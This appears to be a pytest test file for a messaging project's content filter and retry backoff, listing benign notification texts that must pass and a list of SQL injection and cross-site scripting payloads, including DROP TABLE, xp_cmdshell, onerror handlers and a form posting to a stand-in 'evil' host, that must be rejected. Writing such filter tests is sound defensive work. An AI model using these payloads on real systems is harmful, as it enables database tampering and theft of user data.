from __future__ import annotations

import random
from pathlib import Path

import pytest

from wa_trio.core.content_filter import check_content
from wa_trio.core.retry import Backoff

BENIGN = [
    "Select your seat",
    "I <3 you",
    "Drop me a line when you land",
    "Meet me at Union Station, select the north exit",
    "Your order #1234 is ready -- see you soon",
    "It's 5 o'clock; update: the table is booked",
    "Price: 3 < 5 and 7 > 2",
    "Click here: https://example.com/?a=1&b=2",
    "Don't forget: insert the card, then select 'pay'",
    "Olá! Seu código é 123-456 😀",
    "email me at a.b@example.com or call",
]

HOSTILE = [
    ("' OR '1'='1", "sql_tautology"),
    ('" or 1=1 --', "sql_tautology"),
    ("x' AND 'a'='a", "sql_tautology"),
    ("1 UNION SELECT password FROM users", "sql_union_select"),
    ("name'; DROP TABLE users; --", "sql_stacked_query"),
    ("please truncate table orders", "sql_drop"),
    ("admin'--", "sql_comment_after_quote"),
    ("1 and sleep(5)", "sql_time_function"),
    ("1; waitfor delay '0:0:5'", "sql_waitfor"),
    ("1; UPDATE users SET admin=1", "sql_stacked_query"),
    ("x; delete from orders", "sql_stacked_query"),
    ("exec xp_cmdshell 'dir'", "sql_procedure"),
    ("<script>alert(1)</script>", "xss_script_tag"),
    ("<a href='javascript:alert(1)'>x</a>", "xss_js_url"),
    ("<img src=x onerror=alert(1)>", "xss_event_handler"),
    ("<iframe src=//evil>", "xss_dangerous_tag"),
    ("<svg/onload=alert(1)>", "xss_event_handler"),
    ("data:text/html;base64,PHNjcmlwdD4=", "xss_data_html"),
    ("steal document.cookie now", "xss_dom_sink"),
    # variants kept rejected after the false-positive work (issue 18)
    ("DROP TABLE users;", "sql_drop"),
    ("x'; insert into users values (1, 'a')", "sql_stacked_query"),
    ("'; shutdown --", "sql_stacked_query"),
    ("1' AND sleep(5)--", "sql_time_function"),
    ("select pg_sleep(10)", "sql_time_function"),
    ("<form action=//evil.example/steal>", "xss_dangerous_tag"),
    ("<base href=//evil.example/>", "xss_dangerous_tag"),
    ("<embed src=x.swf>", "xss_dangerous_tag"),
]

CORPUS = Path(__file__).parents[2] / "data" / "benign_texts.txt"


def test_no_false_positive_on_the_corpus_of_ordinary_notifications() -> None:
    texts = [
        line for line in CORPUS.read_text("utf-8").split("\n") if line and not line.startswith("#")
    ]
    assert len(texts) >= 300
    rejected = [
        (text, check_content(text).rule) for text in texts if not check_content(text).allowed
    ]
    assert rejected == []


@pytest.mark.parametrize("text", BENIGN)
def test_benign_text_passes(text: str) -> None:
    verdict = check_content(text)
    assert verdict.allowed, verdict.rule


@pytest.mark.parametrize(("text", "rule"), HOSTILE)
def test_hostile_text_is_rejected_with_rule(text: str, rule: str) -> None:
    verdict = check_content(text)
    assert not verdict.allowed
    assert verdict.rule == rule


def test_backoff_grows_caps_and_resets() -> None:
    backoff = Backoff(initial=1.0, cap=8.0, rng=random.Random(3))
    delays = [backoff.next_delay() for _ in range(8)]
    bases = [1, 2, 4, 8, 8, 8, 8, 8]
    for delay, base in zip(delays, bases, strict=True):
        assert base / 2 <= delay <= base
    backoff.reset()
    assert backoff.next_delay() <= 1.0


def test_backoff_jitter_differs_between_workers() -> None:
    a = [Backoff(rng=random.Random(1)).next_delay() for _ in range(1)]
    b = [Backoff(rng=random.Random(2)).next_delay() for _ in range(1)]
    assert a != b
